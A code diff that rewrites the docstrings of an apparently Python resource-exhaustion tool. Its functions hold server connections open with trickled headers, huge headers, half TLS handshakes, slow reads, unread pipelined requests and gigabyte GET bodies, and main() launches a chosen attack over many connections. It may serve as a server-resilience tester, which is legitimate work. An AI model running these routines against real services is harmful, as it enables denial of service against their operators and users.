@@ -32,14 +32,14 @@ class Target:
 
     @contextmanager
     def closed(self, line: Line) -> Iterator[Line]:
-        """The connection, which is closed at the end without a word."""
+        """Yield the connection, which is closed at the end without a word."""
         try:
             yield line
         finally:
             line.writer.transport.abort()
 
     async def connect(self, *, plain: bool = False, receive: int = 0) -> Line:
-        """A connection; ``plain`` begins no TLS, ``receive`` is the size of its receive buffer."""
+        """Return a connection; ``plain`` begins no TLS, ``receive`` is the size of its receive buffer."""
         line = socket.socket()
         line.setblocking(False)
         if receive:
@@ -77,14 +77,14 @@ class Line:
 
 
 async def slow_head(target: Target) -> None:
-    """A byte of a header now and then."""
+    """Send a byte of a header now and then."""
     with target.closed(await target.connect()) as line:
         await line.send(START + b"X: ")
         await line.trickle()
 
 
 async def big_head(target: Target) -> None:
-    """Headers of 65 kB each, 98 of them, and then a byte now and then."""
+    """Send 98 headers of 65 kB each, and then a byte now and then."""
     with target.closed(await target.connect()) as line:
         await line.send(START)
         for number in range(98):
@@ -93,14 +93,14 @@ async def big_head(target: Target) -> None:
 
 
 async def half_handshake(target: Target) -> None:
-    """The beginning of a TLS handshake, and no more."""
+    """Send only the beginning of a TLS handshake."""
     with target.closed(await target.connect(plain=True)) as line:
         await line.send(b"\x16\x03\x01\x02\x00\x01")
         await line.reader.read()
 
 
 async def slow_reader(target: Target) -> None:
-    """Many questions for a large response, which is read a byte a second."""
+    """Send many requests for a large response, and read a byte a second."""
     with target.closed(await target.connect(receive=4096)) as line:
         await line.send((START + b"\r\n") * 50)
         while await line.reader.read(1):
@@ -108,7 +108,7 @@ async def slow_reader(target: Target) -> None:
 
 
 async def pipelined(target: Target) -> None:
-    """Questions one after the other without end, whose responses are not read."""
+    """Send requests without end, and read no response."""
     with target.closed(await target.connect(receive=4096)) as line:
         while True:
             await line.send((START + b"\r\n") * 1000)
@@ -116,7 +116,7 @@ async def pipelined(target: Target) -> None:
 
 
 async def body_after_get(target: Target) -> None:
-    """A GET with a body of a gigabyte."""
+    """Send a GET with a body of a gigabyte."""
     with target.closed(await target.connect()) as line:
         await line.send(START + b"Content-Length: 1000000000\r\n\r\n")
         for _ in range(1000):
@@ -124,7 +124,7 @@ async def body_after_get(target: Target) -> None:
 
 
 async def chunks_after_get(target: Target) -> None:
-    """A GET with a body of a gigabyte, whose length is never said."""
+    """Send a GET with a body of a gigabyte, without its length."""
     with target.closed(await target.connect()) as line:
         await line.send(START + b"Transfer-Encoding: chunked\r\n\r\n")
         for _ in range(1000):
@@ -155,7 +155,7 @@ async def attack(name: str, connections: int, target: Target) -> None:
 
 
 def main(name: str, connections: str, port: str, *tls: str) -> None:
-    """Attack as the arguments say."""
+    """Run the attack of the arguments."""
     most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     context = ssl.create_default_context() if tls else None
